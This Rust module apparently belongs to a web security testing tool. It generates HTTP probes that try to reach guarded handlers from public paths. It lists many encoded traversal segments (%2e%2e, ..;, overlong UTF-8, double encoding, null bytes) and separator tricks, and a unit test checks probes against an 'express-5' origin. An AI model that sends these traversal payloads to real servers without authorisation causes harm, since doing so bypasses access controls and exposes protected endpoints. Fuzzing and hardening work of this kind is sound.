//! Ways that begin on a public path beneath or around guarded ones, and end at a guarded handler.

use super::tokens;
use crate::origins::Origin;
use crate::probe::Probe;

/// One segment up, as some origin takes it.
const UPS: &[&str] = &[
    "/..",
    "/%2e%2e",
    "/.%2e",
    "/..;",
    "/..;x",
    "%2f..",
    "%2F%2e%2e",
    "%252f..",
    "/%252e%252e",
    "\\..",
    "%5c..",
    "/..%5c",
    "/..%2f",
    ";/..",
    ";x=/..",
    "//..",
    "/./..",
    "%c0%af..",
    "/%c0%ae%c0%ae",
    "/%u002e%u002e",
    "%00/..",
    "?/..",
    "%3f/..",
    "#/..",
    "%23/..",
];

/// Texts between a public path and a guarded one that is appended or named behind it.
const JOINTS: &[&str] = &[
    "", "/", "//", ";", "%3b", "?", "%3f", "#", "%23", "%00", "%0a", "%2f", "%5c", "\\", " ",
    "%20", "@", ":",
];

/// From each public path up to the root and down to each base, and each base behind it.
pub(super) fn probes(origin: &Origin, bases: &[String]) -> Vec<Probe> {
    let mut found = Vec::new();
    let open = origin.open.iter().map(|path| path.replace('*', "x"));
    for path in open.chain(["/pub".to_owned()]) {
        for base in bases {
            for up in UPS {
                let depth = path.matches('/').count();
                // As many steps as it takes, one fewer and one more: empty segments count for some.
                for steps in depth.saturating_sub(1)..=depth + 1 {
                    let target = format!("{path}{}{base}", up.repeat(steps));
                    found.push(Probe::get(tokens::bytes(&target)));
                    // Only one of the steps spelled so.
                    let plain = "/..".repeat(steps.saturating_sub(1));
                    found.push(Probe::get(tokens::bytes(&format!("{path}{up}{plain}{base}"))));
                    found.push(Probe::get(tokens::bytes(&format!("{path}{plain}{up}{base}"))));
                }
            }
            for joint in JOINTS {
                found.push(Probe::get(tokens::bytes(&format!("{path}{joint}{base}"))));
                found.push(Probe::get(tokens::bytes(&format!("{base}{joint}{path}"))));
                found.push(Probe::get(tokens::bytes(&format!("{base}{joint}/..{path}"))));
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::origins::named;

    #[test]
    fn leads_from_a_public_path_to_a_guarded_one() {
        let bases = ["/internal/secret".to_owned()];
        let found = probes(named("express-5").unwrap(), &bases);
        for target in [
            "/internal/open/../../internal/secret",
            "/internal/open%2f..%2f../internal/secret",
            "/api/x/..;/..;/internal/secret",
            "/internal/secret;/internal/open",
        ] {
            assert!(found.contains(&Probe::get(target)), "{target}");
        }
    }
}
